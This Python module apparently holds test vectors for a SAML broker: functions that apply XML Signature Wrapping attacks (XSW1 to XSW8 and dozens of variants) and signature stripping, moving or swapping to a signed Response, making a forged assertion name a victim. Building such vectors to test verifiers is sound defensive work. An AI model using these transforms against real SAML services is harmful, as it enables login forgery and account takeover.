"""Signature wrapping: a validly signed part is kept somewhere, and a forged one stands where it is read.

Each turns a signed Response into the attacker's, in place; `vectors/wrapping.py` says what becomes of it.
Source: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), XSW1 to XSW8.
"""

import copy

from lxml import etree
from saml.keys import signer
from saml.sign import sign

from llmops.broker.saml import names
from llmops.broker.saml.names import ds, saml, samlp

VICTIM = "owner@acme.test"


def _forged(element: etree._Element, new_id: str, *, signed: bool) -> etree._Element:
    """A copy that speaks of the victim, under another ID."""
    forged = copy.deepcopy(element)
    forged.tail = None
    forged.set("ID", new_id)
    for name_id in forged.iter(saml("NameID")):
        name_id.text = VICTIM
    if not signed:
        _remove(forged.find(ds("Signature")))
    return forged


def _remove(element: etree._Element | None) -> None:
    if element is not None:
        parent = element.getparent()
        assert parent is not None
        parent.remove(element)


def _become(root: etree._Element, other: etree._Element) -> None:
    """Turn `root` into `other` where it stands."""
    root[:] = list(other)
    for name, value in other.attrib.items():
        root.set(str(name), str(value))


def _assertion(root: etree._Element) -> etree._Element:
    assertion = root.find(saml("Assertion"))
    assert assertion is not None
    return assertion


def _signature(element: etree._Element) -> etree._Element:
    signature = element.find(ds("Signature"))
    assert signature is not None
    return signature


def _object(signature: etree._Element) -> etree._Element:
    return etree.SubElement(signature, ds("Object"))


def xsw1(root: etree._Element) -> None:
    """A forged Response around; its Signature holds the original Response."""
    original = copy.deepcopy(root)
    signature = _signature(original)
    _remove(signature)
    forged = _forged(root, "_forged", signed=False)
    forged.insert(1, signature)
    signature.append(original)
    _become(root, forged)


def xsw2(root: etree._Element) -> None:
    """A forged Response around; the original Response stands beside its own Signature."""
    original = copy.deepcopy(root)
    signature = _signature(original)
    _remove(signature)
    forged = _forged(root, "_forged", signed=False)
    forged.insert(1, original)
    forged.insert(2, signature)
    _become(root, forged)


def xsw3(root: etree._Element) -> None:
    """A forged Assertion before the signed one."""
    assertion = _assertion(root)
    root.insert(root.index(assertion), _forged(assertion, "_forged", signed=False))


def xsw4(root: etree._Element) -> None:
    """A forged Assertion around the signed one."""
    assertion = _assertion(root)
    forged = _forged(assertion, "_forged", signed=False)
    root.replace(assertion, forged)
    forged.append(assertion)


def xsw5(root: etree._Element) -> None:
    """The Assertion is forged under its signature; the original, unsigned, comes last."""
    assertion = _assertion(root)
    original = copy.deepcopy(assertion)
    _remove(original.find(ds("Signature")))
    root.replace(assertion, _forged(assertion, "_forged", signed=True))
    root.append(original)


def xsw6(root: etree._Element) -> None:
    """The Assertion is forged; its Signature holds the original."""
    assertion = _assertion(root)
    original = copy.deepcopy(assertion)
    _remove(original.find(ds("Signature")))
    forged = _forged(assertion, "_forged", signed=True)
    root.replace(assertion, forged)
    _signature(forged).append(original)


def xsw7(root: etree._Element) -> None:
    """The signed Assertion is kept in Extensions, the forged one takes its place."""
    assertion = _assertion(root)
    extensions = etree.Element(samlp("Extensions"))
    root.insert(1, extensions)
    root.replace(assertion, _forged(assertion, "_forged", signed=False))
    extensions.append(assertion)


def xsw8(root: etree._Element) -> None:
    """The original is kept in a ds:Object of the forged Assertion's signature."""
    assertion = _assertion(root)
    original = copy.deepcopy(assertion)
    _remove(original.find(ds("Signature")))
    forged = _forged(assertion, "_forged", signed=True)
    root.replace(assertion, forged)
    _object(_signature(forged)).append(original)


def into_advice(root: etree._Element) -> None:
    """The signed Assertion is kept in the Advice of the forged one."""
    assertion = _assertion(root)
    forged = _forged(assertion, "_forged", signed=False)
    root.replace(assertion, forged)
    conditions = forged.find(saml("Conditions"))
    assert conditions is not None
    advice = etree.Element(saml("Advice"))
    forged.insert(forged.index(conditions) + 1, advice)
    advice.append(assertion)


def into_attribute_value(root: etree._Element) -> None:
    """The signed Assertion is kept inside an attribute value."""
    assertion = _assertion(root)
    forged = _forged(assertion, "_forged", signed=False)
    root.replace(assertion, forged)
    value = forged.find(f".//{saml('AttributeValue')}")
    assert value is not None
    value.text = None
    value.append(assertion)


def into_status_detail(root: etree._Element) -> None:
    """The signed Assertion is kept in StatusDetail."""
    assertion = _assertion(root)
    root.replace(assertion, _forged(assertion, "_forged", signed=False))
    status = root.find(samlp("Status"))
    assert status is not None
    etree.SubElement(status, samlp("StatusDetail")).append(assertion)


def into_key_info(root: etree._Element) -> None:
    """The signed Assertion's copy is kept in the KeyInfo of its own signature."""
    assertion = _assertion(root)
    original = copy.deepcopy(assertion)
    forged = _forged(assertion, "_forged", signed=True)
    root.replace(assertion, forged)
    key_info = _signature(forged).find(ds("KeyInfo"))
    assert key_info is not None
    key_info.append(original)


def into_foreign_extension(root: etree._Element) -> None:
    """The signed Assertion is kept below a foreign element in Extensions."""
    assertion = _assertion(root)
    root.replace(assertion, _forged(assertion, "_forged", signed=False))
    extensions = etree.Element(samlp("Extensions"))
    etree.SubElement(extensions, "{urn:x}kept").append(assertion)
    root.insert(1, extensions)


def into_context_declaration(root: etree._Element) -> None:
    """The signed Assertion is kept in the forged one's AuthnContextDecl."""
    assertion = _assertion(root)
    forged = _forged(assertion, "_forged", signed=False)
    root.replace(assertion, forged)
    context = forged.find(f".//{saml('AuthnContext')}")
    assert context is not None
    etree.SubElement(context, saml("AuthnContextDecl")).append(assertion)


def into_confirmation_data(root: etree._Element) -> None:
    """The signed Assertion is kept in the forged one's SubjectConfirmationData."""
    assertion = _assertion(root)
    forged = _forged(assertion, "_forged", signed=False)
    root.replace(assertion, forged)
    confirmed = forged.find(f".//{saml('SubjectConfirmationData')}")
    assert confirmed is not None
    confirmed.append(assertion)


def into_encrypted_assertion(root: etree._Element) -> None:
    """The signed Assertion is kept, in clear, in an EncryptedAssertion beside the forged one."""
    assertion = _assertion(root)
    root.replace(assertion, _forged(assertion, "_forged", signed=False))
    etree.SubElement(root, saml("EncryptedAssertion")).append(assertion)


def into_key_info_of_response(root: etree._Element) -> None:
    """The signed Assertion is kept in the KeyInfo of the Response's signature."""
    assertion = _assertion(root)
    key_info = _signature(root).find(ds("KeyInfo"))
    assert key_info is not None
    root.replace(assertion, _forged(assertion, "_forged", signed=False))
    key_info.append(assertion)


def response_into_object(root: etree._Element) -> None:
    """XSW8 for the Response: the original is kept in a ds:Object of the forged Response's signature."""
    original = copy.deepcopy(root)
    _remove(original.find(ds("Signature")))
    forged = _forged(root, "_forged", signed=True)
    _object(_signature(forged)).append(original)
    _become(root, forged)


def response_into_extensions(root: etree._Element) -> None:
    """XSW7 for the Response: the original is kept, with its signature, in the forged Response's Extensions."""
    original = copy.deepcopy(root)
    forged = _forged(root, "_forged", signed=False)
    extensions = etree.Element(samlp("Extensions"))
    extensions.append(original)
    forged.insert(1, extensions)
    _become(root, forged)


def response_into_status_detail(root: etree._Element) -> None:
    """The original Response is kept, with its signature, in the forged Response's StatusDetail."""
    original = copy.deepcopy(root)
    forged = _forged(root, "_forged", signed=False)
    status = forged.find(samlp("Status"))
    assert status is not None
    etree.SubElement(status, samlp("StatusDetail")).append(original)
    _become(root, forged)


def forged_on_both_sides(root: etree._Element) -> None:
    """Forged Assertions stand before and after the signed one."""
    xsw3(root)
    root.append(_forged(_assertion(root), "_forged_too", signed=False))


def same_id_before(root: etree._Element) -> None:
    """A forged Assertion with the signed one's ID comes first."""
    assertion = _assertion(root)
    root.insert(root.index(assertion), _forged(assertion, assertion.get("ID", ""), signed=False))


def same_id_after(root: etree._Element) -> None:
    """A forged Assertion with the signed one's ID comes last."""
    assertion = _assertion(root)
    root.append(_forged(assertion, assertion.get("ID", ""), signed=False))


def same_id_with_signature(root: etree._Element) -> None:
    """A forged Assertion with the signed one's ID and signature comes first."""
    assertion = _assertion(root)
    root.insert(root.index(assertion), _forged(assertion, assertion.get("ID", ""), signed=True))


def assertion_alone(root: etree._Element) -> None:
    """The signed Assertion is the whole document."""
    assertion = _assertion(root)
    root.tag = assertion.tag
    root.attrib.clear()
    _become(root, assertion)


def in_envelope(root: etree._Element) -> None:
    """The Response arrives in a SOAP envelope."""
    soap = "{http://schemas.xmlsoap.org/soap/envelope/}"
    inner = copy.deepcopy(root)
    root.tag = soap + "Envelope"
    root.attrib.clear()
    root[:] = []
    etree.SubElement(root, soap + "Body").append(inner)


def signed_in_place(root: etree._Element) -> None:
    """The forged Assertion keeps the original's ID and signature."""
    for name_id in root.iter(saml("NameID")):
        name_id.text = VICTIM


def signature_moved_up(root: etree._Element) -> None:
    """The Assertion's signature stands in the Response, which it does not cover."""
    signature = _signature(_assertion(root))
    _remove(signature)
    root.insert(1, signature)
    signed_in_place(root)


def signature_moved_down(root: etree._Element) -> None:
    """The Response's signature stands in the Assertion, which it does not cover."""
    signature = _signature(root)
    _remove(signature)
    _assertion(root).insert(1, signature)
    signed_in_place(root)


def signature_last(root: etree._Element) -> None:
    """The signature stands last in the Assertion instead of after Issuer."""
    assertion = _assertion(root)
    assertion.append(_signature(assertion))


def signature_before_issuer(root: etree._Element) -> None:
    """The signature stands before Issuer."""
    assertion = _assertion(root)
    assertion.insert(0, _signature(assertion))


def signature_in_subject(root: etree._Element) -> None:
    """The signature stands inside Subject."""
    assertion = _assertion(root)
    subject = assertion.find(saml("Subject"))
    assert subject is not None
    subject.append(_signature(assertion))


def signature_twice(root: etree._Element) -> None:
    """The same signature stands in the Assertion twice."""
    assertion = _assertion(root)
    assertion.insert(1, copy.deepcopy(_signature(assertion)))


def signature_in_extensions(root: etree._Element) -> None:
    """The Assertion's signature stands in Extensions."""
    extensions = etree.Element(samlp("Extensions"))
    extensions.append(_signature(_assertion(root)))
    root.insert(1, extensions)


def signature_of_another_message(root: etree._Element) -> None:
    """The signature is one that the identity provider made of another of its Assertions, about somebody else."""
    assertion = _assertion(root)
    other = copy.deepcopy(assertion)
    _remove(_signature(other))
    other.set("ID", "_other")
    assertion.replace(_signature(assertion), sign(other, signer()))


def signature_of_the_same_id(root: etree._Element) -> None:
    """The signature is one that the identity provider made of another of its Assertions, which has the same ID."""
    assertion = _assertion(root)
    other = copy.deepcopy(assertion)
    _remove(_signature(other))
    for name_id in other.iter(saml("NameID")):
        name_id.text = "eve@acme.test"
    assertion.replace(_signature(assertion), sign(other, signer()))


def signature_emptied(root: etree._Element) -> None:
    """The Assertion's signature is an empty element."""
    _signature(_assertion(root))[:] = []


def signature_without_signed_info(root: etree._Element) -> None:
    """The Assertion's signature has a value and a key, but covers nothing."""
    del _signature(_assertion(root))[0]


def response_signature_removed(root: etree._Element) -> None:
    """The Response's signature is taken away, the Assertion's stays."""
    _remove(_signature(root))


def assertion_signature_removed(root: etree._Element) -> None:
    """The Assertion's signature is taken away, the Response's stays."""
    _remove(_signature(_assertion(root)))


def assertion_twice(root: etree._Element) -> None:
    """The very same signed Assertion stands in the Response twice."""
    root.append(copy.deepcopy(_assertion(root)))


def second_assertion(root: etree._Element) -> None:
    """A forged, unsigned Assertion comes after the signed one."""
    root.append(_forged(_assertion(root), "_forged", signed=False))


def encrypted_beside(root: etree._Element) -> None:
    """An EncryptedAssertion stands beside the Assertion."""
    etree.SubElement(root, saml("EncryptedAssertion"))


def nested_response(root: etree._Element) -> None:
    """The Response is wrapped in another one."""
    inner = copy.deepcopy(root)
    root.set("ID", "_outer")
    root[:] = [inner]


def unsigned(root: etree._Element) -> None:
    """Every signature is taken away."""
    for signature in list(root.iter(ds("Signature"))):
        _remove(signature)


def unsigned_and_changed(root: etree._Element) -> None:
    """Every signature is taken away and the subject is the victim."""
    unsigned(root)
    signed_in_place(root)


def default_namespace(root: etree._Element) -> None:
    """Not an attack: prefixes declared again where they were declared before must change nothing."""
    etree.cleanup_namespaces(root, keep_ns_prefixes=["samlp", "saml", "ds"], top_nsmap={"again": names.ASSERTION})
